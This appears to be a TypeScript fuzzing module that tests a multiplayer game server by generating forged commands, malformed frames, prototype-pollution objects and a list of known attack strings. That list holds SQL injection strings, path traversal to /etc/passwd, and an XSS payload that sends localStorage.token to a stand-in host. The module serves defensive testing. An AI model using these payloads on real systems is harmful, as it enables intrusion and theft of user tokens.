import type { Choice } from '@topside/engine'
import { MARKER, message, pack, ROOM_DATA, ROOM_DATA_BYTES, request } from './raw-socket.ts'

/** An attacker's knowledge of its match. */
export interface Known {
  readonly seat: number
  readonly seq: number
  /** Since when the seat has had its decision. */
  readonly since: number
  /** All current legal choices of the seat, which must not be sent unchanged. */
  readonly choices: readonly Choice[]
  readonly pieces: readonly string[]
  readonly spaces: readonly string[]
  /** Request ids of others. */
  readonly stolen: readonly string[]
}

/** Texts that have been harmful elsewhere. */
export const TEXTS = [
  `'; drop table commands; --`,
  `" or 1=1 --`,
  '$1, (select token from users)',
  '{"a":1},{',
  `<script>fetch('//e.example/'+localStorage.token)</script>`,
  `<img src=x onerror=alert(1)>`,
  '__proto__',
  'constructor',
  'toString',
  '../../etc/passwd',
  '%00',
  '\u0000',
  '\ud800',
  '\u202egnihtyna',
  '',
  ' ',
  'NaN',
  '-1',
  '{{7*7}}',
  'x'.repeat(41),
  '🏝'.repeat(20),
]

const NUMBERS = [-1, 1.5, 2 ** 31, 2 ** 53, -(2 ** 53), 1e308, Number.NaN, Number.POSITIVE_INFINITY, 7, 8, 1_000_000]
const TYPES = [
  'command',
  'records',
  'why',
  'preview',
  'chat',
  'say',
  'hint',
  'state',
  'admin',
  '*',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '',
]

/** A message that must have no effect, and whose only permitted answer without an error is a list of records. */
export function evilMessage(known: Known, random: () => number): Buffer {
  const any = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T
  const id = Math.floor(random() * MARKER)
  const kind = random()
  if (kind < 0.54) return request(id, 'command', evilCommand(known, random, any))
  if (kind < 0.57) return request(id, 'chat', evilReading(any))
  if (kind < 0.6) return request(id, 'say', evilLine(random, any))
  if (kind < 0.62) return request(id, 'hint', { seat: any<unknown>([0, 1, 5, -1, '0', null, {}, [known.seat]]) })
  if (kind < 0.7) {
    const of = any(['why', 'preview', 'records'])
    const seat = any<unknown>([(known.seat + 1) % 2, 5, -1, '0', null, {}])
    const range = { from: any<unknown>([-1, 0, 1.5, 'a', null]), to: any<unknown>([-1, 1e9, 'b', {}]) }
    return request(
      id,
      of,
      of === 'records' ? range : of === 'why' ? { seat, choice: evilChoice(known, any) } : { seat },
    )
  }
  if (kind < 0.76) return request(id, any(TYPES.slice(7)), any<unknown>([...TEXTS, ...NUMBERS, known.choices]))
  if (kind < 0.82)
    return request(
      id,
      any(TYPES.slice(0, 7)),
      any<unknown>([deep(any([3, 100, 2_000])), wide(any([40, 1_000])), ...TEXTS]),
    )
  if (kind < 0.86) return Buffer.concat([request(id, 'command', null), pack(evilCommand(known, random, any))])
  if (kind < 0.9) return message(any([ROOM_DATA, ROOM_DATA_BYTES]), any(TYPES), evilCommand(known, random, any))
  return garbage(random, any)
}

/** Texts that are not valid chat lines. */
const NO_LINES: readonly unknown[] = [
  '',
  '  ',
  '\u0000',
  'two\nlines',
  '\u202egnihtyna',
  'x'.repeat(501),
  '🏝'.repeat(501),
  '\u0301'.repeat(3_000),
  '<b>'.repeat(4_000),
  7,
  null,
  ['a'],
  { toString: 'a' },
]

/** A chat line with a harmful text from a user who may chat; some are repeated. */
export function harmfulLine(token: string, random: () => number): Buffer {
  const text = TEXTS[Math.floor(random() * TEXTS.length)]
  const id = `chat-${Math.floor(random() * 1e4)}`
  return request(Math.floor(random() * MARKER), 'say', { room: 'spectators', id, text, token })
}

/**
 * Forbidden chat lines: invalid ones among players, any in the spectators' chat, since an attacker has a seat or no
 * name.
 */
function evilLine(random: () => number, any: <T>(list: readonly T[]) => T): object {
  const id = `evil-${Math.floor(random() * 1e12)}`
  switch (Math.floor(random() * 5)) {
    case 0:
      return { id, room: 'players', text: any(NO_LINES) }
    case 1:
      return { id, room: 'spectators', text: any([...TEXTS, ...NO_LINES]) }
    case 2:
      return { id, room: 'spectators', text: any(TEXTS), token: any([...TEXTS, 'x'.repeat(43), 'x'.repeat(5_000)]) }
    case 3:
      return { id: any<unknown>(['', 'short', 'a b c d e f', 'x'.repeat(41), null, {}, 7]), room: 'players', text: 'a' }
    default:
      return { id, room: any<unknown>([...TEXTS, 'admin', 7]), text: any(TEXTS), user: 'somebody', n: 0, at: 0 }
  }
}

/** Invalid or forbidden chat ranges; in the spectators' chat the answer may be a list. */
function evilReading(any: <T>(list: readonly T[]) => T): object {
  const number = any<unknown>([-1, 0.5, 2 ** 31, 1e308, '0', null, {}, [0]])
  return any<object>([
    { room: 'spectators', token: any(TEXTS) },
    { room: 'players', from: number },
    { room: 'spectators', from: 0, to: number },
    { room: any<unknown>([...TEXTS, null, {}]) },
    { room: 'players', from: 0, more: true },
  ])
}

function evilChoice({ pieces, spaces, choices }: Known, any: <T>(list: readonly T[]) => T): object {
  const base: object = choices.length > 0 ? any(choices) : { verb: 'pass' }
  return {
    ...base,
    ...any<object>([
      { option: any(TEXTS) || 'x' },
      { verb: any(TEXTS) },
      { value: 987_654 },
      { piece: any(TEXTS) },
      { space: any(TEXTS), piece: any(pieces) },
      { verb: 'fly', piece: any(pieces), space: any(spaces) },
      { more: true },
      { value: any(NUMBERS), option: 'none' },
      { verb: { toString: 'x' } },
    ]),
  }
}

function evilCommand(known: Known, random: () => number, any: <T>(list: readonly T[]) => T): object {
  const { seat, seq, since, choices } = known
  const other = (seat + 1) % 2
  const id = random() < 0.9 ? `evil-${Math.floor(random() * 1e12)}` : any([...TEXTS, any(NUMBERS), null])
  const choose = (...list: unknown[]): object => ({ kind: 'choose', seat, choices: list })
  const legal = choices.length > 0 ? any(choices) : { verb: 'pass' }
  switch (Math.floor(random() * 14)) {
    case 0:
      return { id, seq, command: { ...choose(legal), seat: other } }
    case 1:
      return { id, seq, command: { ...choose(legal), seat: any<unknown>([2, 7, 8, -1, 0.5, '1', null, [seat]]) } }
    case 2:
      return { id, seq: seq + 1 + Math.floor(random() * 1e6), command: choose(legal) }
    case 3:
      return { id, seq: since > 0 ? Math.floor(random() * since) : -1, command: choose(legal) }
    case 4:
      return { id, seq: any<unknown>([-1, 0.5, Number.NaN, '0', null, 2 ** 60]), command: choose(legal) }
    case 5:
      return { id: any(known.stolen), seq, command: choose(evilChoice(known, any)) }
    case 6:
      return { id, seq, command: { kind: 'set', seat, setting: any(TEXTS), value: any(TEXTS) } }
    case 7:
      return { id, seq, command: { kind: any<unknown>(['win', 'undo ', '', null, '__proto__', 7]), seat } }
    case 8:
      return { id, seq, command: { kind: 'askTakeback', seat, to: any([-1, 1_000_000, 999_999, 0.5]) } }
    case 9:
      return {
        id,
        seq,
        command: { kind: any(['resign', 'undo', 'askTakeback', 'answerTakeback']), seat: other, to: 0, accept: true },
      }
    case 10:
      return { id, seq, command: { kind: 'answerTakeback', seat, accept: any<unknown>([true, false, 'yes', 1]) } }
    case 11:
      return { id, seq, command: choose(...Array.from({ length: any([0, 33, 150]) }, () => legal)) }
    case 12:
      return {
        id,
        seq,
        command: choose(legal),
        ...JSON.parse('{"__proto__":{"admin":true},"constructor":1}'),
        more: any(TEXTS),
      }
    default:
      return { id, seq, command: choose(evilChoice(known, any), legal) }
  }
}

function deep(levels: number): unknown {
  let made: unknown = 'core'
  for (let i = 0; i < levels; i++) made = [made]
  return made
}

function wide(fields: number): object {
  return Object.fromEntries(Array.from({ length: fields }, (_, i) => [`f${i}`, i]))
}

/** Invalid messages with every first byte of a frame, except bytes that may end the connection. */
function garbage(random: () => number, any: <T>(list: readonly T[]) => T): Buffer {
  return noise(
    any([0, 10, 11, 14, 15, 16, 17, 18, 19, 20, 21, 22, 31]) | (random() < 0.2 ? any([32, 64, 128]) : 0),
    random,
  )
}

/** A message that may make the server close the connection. */
export function deadlyMessage(random: () => number): Buffer {
  return random() < 0.8 ? noise(ROOM_DATA, random) : Buffer.alloc(40_000, ROOM_DATA)
}

function noise(code: number, random: () => number): Buffer {
  const length = Math.floor(random() ** 3 * 300)
  const bytes = Array.from({ length }, () => Math.floor(random() * 256))
  return Buffer.from([code, ...bytes])
}
